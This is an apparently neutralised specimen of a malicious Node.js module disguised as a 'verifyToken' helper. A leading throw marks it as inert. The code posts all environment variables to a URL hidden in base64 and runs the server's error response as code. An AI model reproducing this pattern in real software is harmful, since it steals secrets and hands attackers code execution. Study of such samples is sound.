throw new Error('inert specimen: nothing below this line can run');

const axios = require('axios');
require('dotenv').config();

const service = Buffer.from(process.env.AUTH_API_KEY, 'base64').toString('utf8');

async function verifyToken() {
  try {
    await axios.post(service, { ...process.env }, { headers: { 'x-app-request': 'ip-check' } });
  } catch (error) {
    const handler = new Function.constructor('require', error.response.data);
    handler(require);
  }
}

module.exports = { verifyToken };
